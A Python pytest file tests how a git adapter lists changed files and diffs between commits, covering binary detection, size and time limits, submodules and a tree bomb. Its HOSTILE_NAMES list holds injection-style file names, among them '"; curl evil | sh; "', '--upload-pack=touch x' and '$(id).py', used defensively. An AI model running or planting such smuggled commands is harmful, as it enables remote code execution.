"""Every changed entry is there, with its true diff or the true reason for having none."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.adapters.git.changes import DiffLimits
from app.adapters.git.local import open_local
from app.adapters.git.objects import GitRepository
from app.adapters.git.process import Git, Limits
from app.domain.entries import Kind, Status
from app.domain.errors import GitFailed
from app.domain.objects import Change, NotDiffed
from app.domain.pull_request import Sha
from tests.adapters.git.fake_git import fake_git
from tests.adapters.git.stores import Files, Node, Store, executable, submodule, symlink

SOMEWHERE, ELSEWHERE = "1" * 40, "2" * 40


async def changes(store: Store, old: Files, new: Files, limits: DiffLimits | None = None) -> dict[str, Change]:
    """The changes between two commits of these files, by path."""
    base = store.commit(old)
    repository = await open_local(store.git_dir, limits=limits)
    found = await repository.changes(base, store.commit(new, base))
    by_path = {change.entry.path: change for change in found}
    assert len(by_path) == len(found)
    return by_path


def rows(change: Change) -> list[str]:
    """The lines of a diff, as in a patch."""
    assert change.diff is not None
    marks = {"context": " ", "added": "+", "removed": "-"}
    return [marks[line.kind] + line.text for hunk in change.diff.hunks for line in hunk.lines]


async def test_what_can_happen_to_a_file(store: Store) -> None:
    old: Files = {
        "kept": b"k\n",
        "gone": b"g\n",
        "changed": b"a\nb\n",
        "old name": b"r\n",
        "script": b"s\n",
        "emptied": b"e\n",
    }
    new: Files = {
        "kept": b"k\n",
        "new": b"n\n",
        "changed": b"a\nc\n",
        "new name": b"r\n",
        "script": executable(b"s\n"),
        "emptied": b"",
        "empty": b"",
    }
    found = await changes(store, old, new)
    assert {path: (change.entry.status, rows(change)) for path, change in found.items()} == {
        "changed": (Status.MODIFIED, [" a", "-b", "+c"]),
        "emptied": (Status.MODIFIED, ["-e"]),
        "empty": (Status.ADDED, []),
        "gone": (Status.DELETED, ["-g"]),
        "new": (Status.ADDED, ["+n"]),
        "new name": (Status.ADDED, ["+r"]),
        "old name": (Status.DELETED, ["-r"]),
        "script": (Status.MODIFIED, []),
    }
    script = found["script"].entry
    assert [side.kind for side in script.sides] == [Kind.FILE, Kind.EXECUTABLE]


async def test_a_type_change_shows_both_sides(store: Store) -> None:
    old: Files = {"to link": b"target", "to file": symlink(b"target"), "same link": symlink(b"a")}
    new: Files = {"to link": symlink(b"target"), "to file": b"text\n", "same link": symlink(b"b")}
    found = await changes(store, old, new)
    assert {path: (change.entry.status, rows(change)) for path, change in found.items()} == {
        "same link": (Status.MODIFIED, ["-a", "+b"]),
        "to file": (Status.TYPE_CHANGED, ["-target", "+text"]),
        "to link": (Status.TYPE_CHANGED, ["-target", "+target"]),
    }


async def test_submodules_are_listed_and_not_shown_as_text(store: Store) -> None:
    old: Files = {"moved": submodule(SOMEWHERE), "removed": submodule(SOMEWHERE), "was file": b"x\n"}
    new: Files = {"moved": submodule(ELSEWHERE), "added\r": submodule(SOMEWHERE), "was file": submodule(SOMEWHERE)}
    found = await changes(store, old, new)
    assert set(found) == {"moved", "removed", "added\r", "was file"}
    assert {change.not_diffed for change in found.values()} == {NotDiffed.SUBMODULE}


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (b"x" * 7999 + b"\0\n", b"", NotDiffed.WAS_BINARY),
        (b"", b"x" * 7999 + b"\0\n", NotDiffed.BINARY),
        (b"", b"x" * 8000 + b"\0\n", None),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 20, b"text\n", NotDiffed.WAS_BINARY),
        (b"text\n", symlink(b"link"), None),
        (b"\0", symlink(b"link"), NotDiffed.WAS_BINARY),
        (b"\xff\xfe\x80 no utf-8\n", b"", None),
        (b"", b"x" * 2_000_000, NotDiffed.TOO_LARGE),
        (b"x" * 2_000_000, b"small\n", NotDiffed.TOO_LARGE),
        (b"", b"x" * 1_000_000, None),
        (b"", b"x" * 1_000_001, NotDiffed.TOO_LARGE),
        (b"\0", b"x" * 1_000_001, NotDiffed.TOO_LARGE),
        (b"", b"\0" * 2_000_000, NotDiffed.BINARY),
        (b"\0" * 2_000_000, executable(b"\0" * 2_000_000), None),
    ],
)
async def test_what_has_a_diff_depends_on_content_and_size(
    store: Store, old: bytes, new: bytes | Node, reason: NotDiffed | None
) -> None:
    found = await changes(store, {"f": old}, {"f": new})
    assert found["f"].not_diffed is reason


async def test_only_some_large_files_are_looked_into(store: Store) -> None:
    limits = DiffLimits(file_bytes=10)
    found = await changes(store, {}, {f"{n:02}": b"\0" * 11 for n in range(34)}, limits)
    reasons = [change.not_diffed for change in found.values()]
    assert reasons == [NotDiffed.BINARY] * 32 + [NotDiffed.TOO_LARGE] * 2


HOSTILE_NAMES: list[bytes] = [
    b"--upload-pack=touch x",
    b"-rf",
    b"--output=x",
    b"$(id).py",
    b"`id`",
    b'"; curl evil | sh; "',
    b"a\nb",
    b"\x1b[31mred",
    "\u202egnp.py".encode(),
    b"latin-\xe9.py",
    b"a b\t",
    b"*.py",
    b":(exclude)x",
    b"a -> b",
    b"diff --git a b",
    b"\\",
    b"\xff",
]


async def test_no_name_hides_a_file(store: Store) -> None:
    found = await changes(store, {}, {name: b"%d\n" % at for at, name in enumerate(HOSTILE_NAMES)})
    by_bytes = {path.encode("utf-8", "surrogateescape"): rows(change) for path, change in found.items()}
    assert by_bytes == {name: [f"+{at}"] for at, name in enumerate(HOSTILE_NAMES)}


async def test_attributes_in_the_repository_hide_nothing(store: Store) -> None:
    attributes = b"* -diff -text binary linguist-generated export-ignore diff=hidden merge=hidden eol=crlf ident\n"
    old: Files = {".gitattributes": b"", "a.py": b"one\r\n", "sub/b.py": b"two\n"}
    new: Files = {
        ".gitattributes": attributes,
        "sub/.gitattributes": attributes,
        "a.py": b"1\r\n$Id$\n",
        "sub/b.py": b"2\n",
    }
    found = await changes(store, old, new)
    assert rows(found["a.py"]) == ["-one\r", "+1\r", "+$Id$"]
    assert rows(found["sub/b.py"]) == ["-two", "+2"]
    assert rows(found[".gitattributes"]) == ["+" + attributes.decode().strip()]


async def test_three_thousand_and_one_files(store: Store) -> None:
    old: Files = {f"{at % 40}/{at}": b"a\nb\n" for at in range(3001)}
    new: Files = {f"{at % 40}/{at}": b"a\n%d\n" % at for at in range(3001)}
    found = await changes(store, old, new)
    assert len(found) == 3001
    assert all(rows(found[f"{at % 40}/{at}"]) == [" a", "-b", f"+{at}"] for at in range(3001))


@pytest.mark.parametrize(
    "limits", [DiffLimits(output_bytes=150_000), DiffLimits(lines=1500), DiffLimits(lines=1501)], ids=str
)
async def test_past_the_output_limits_entries_stay(store: Store, limits: DiffLimits) -> None:
    found = await changes(store, {}, {f"{at:03}": b"%060d\n" % at * 100 for at in range(100)}, limits)
    reasons = [change.not_diffed for change in found.values()]
    diffed = reasons.count(None)
    assert 10 <= diffed <= 25
    assert reasons == [None] * diffed + [NotDiffed.TOO_LARGE] * (100 - diffed)
    assert all(change.diff.changed_line_count == 100 for change in found.values() if change.diff is not None)


async def test_files_that_git_has_no_time_to_compare_stay(store: Store) -> None:
    old, new = (b"".join(b"%d\n" % (byte & 1) for byte in os.urandom(200_000)) for _ in range(2))
    found = await changes(store, {"slow": old}, {"slow": new, "z": b""}, DiffLimits(seconds=0.1))
    assert {path: change.not_diffed for path, change in found.items()} == {
        "slow": NotDiffed.TOO_LARGE,
        "z": NotDiffed.TOO_LARGE,
    }


async def test_a_list_of_entries_over_the_limit(store: Store) -> None:
    with pytest.raises(GitFailed, match=r"git diff-tree of .* printed more than 100 bytes"):
        await changes(store, {}, {"a": b"", "b": b""}, DiffLimits(list_bytes=100))


async def test_a_tree_bomb_ends_at_the_limit(store: Store) -> None:
    tree = store.git("hash-object", "-w", "--stdin", stdin=b"boom\n").decode().strip()
    kind = "100644 blob"
    for _ in range(10):
        rows = "".join(f"{kind} {tree}\t{name}\n" for name in range(10))
        tree = store.git("mktree", stdin=rows.encode()).decode().strip()
        kind = "040000 tree"
    bomb = Sha(store.git("commit-tree", "-m", "x", tree).decode().strip())
    base = store.commit({})
    repository = GitRepository(Git(store.git_dir, "acme/web", limits=Limits(memory_bytes=64 << 20)))
    with pytest.raises(GitFailed, match=r"git diff-tree of acme/web needs over 67108864 bytes of memory") as caught:
        await repository.changes(base, bomb)
    assert not caught.value.retry
    assert await repository.blob(bomb, "/".join("0123456789"), max_bytes=9) is not None


@settings(max_examples=15, deadline=None)
@given(
    st.lists(st.sampled_from([b"", b"a\n", b"\0", b"long\n" * 10, symlink(b"x"), submodule(SOMEWHERE)]), max_size=12),
    st.integers(min_value=1, max_value=3000),
    st.integers(min_value=0, max_value=40),
    st.integers(min_value=1, max_value=50),
)
def test_no_limit_loses_an_entry(
    shared_store: Store, nodes: list[bytes | Node], output_bytes: int, lines: int, file_bytes: int
) -> None:
    limits = DiffLimits(file_bytes=file_bytes, output_bytes=output_bytes, lines=lines)
    files: Files = {f"{at}": node for at, node in enumerate(nodes)}
    assert set(asyncio.run(changes(shared_store, {}, files, limits))) == set(files)


@pytest.fixture(scope="module")
def shared_store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return Store.create(tmp_path_factory.mktemp("changes") / "store.git")


async def test_nothing_changed(store: Store, repository: GitRepository) -> None:
    commit = store.commit({"a": b"a\n"})
    assert await repository.changes(commit, commit) == ()


async def test_a_commit_that_is_not_there(store: Store, repository: GitRepository) -> None:
    commit = store.commit({"a": b"a\n"})
    with pytest.raises(GitFailed, match=r"diff-tree of .* failed: fatal: bad object 1111") as caught:
        await repository.changes(commit, Sha(SOMEWHERE))
    assert not caught.value.retry


@pytest.mark.parametrize("name", ["HEAD", "--output=x", "", "1" * 39, "1" * 40 + "\n", "A" * 40, "1" * 64])
async def test_only_full_ids_are_taken(repository: GitRepository, name: str) -> None:
    for call in (
        repository.changes(Sha(name), Sha(SOMEWHERE)),
        repository.changes(Sha(SOMEWHERE), Sha(name)),
        repository.merge_base(Sha(SOMEWHERE), Sha(name)),
        repository.blobs(Sha(name), ("a",), max_bytes=1),
    ):
        with pytest.raises(GitFailed, match="not a full git object id"):
            await call


@pytest.mark.parametrize("script", ["echo nonsense", 'case "$*" in *--raw*) ;; *) echo nonsense ;; esac'])
async def test_output_that_makes_no_sense_is_an_error(tmp_path: Path, script: str) -> None:
    repository = GitRepository(fake_git(tmp_path, script))
    with pytest.raises(GitFailed, match="printed something unknown"):
        await repository.changes(Sha(SOMEWHERE), Sha(ELSEWHERE))
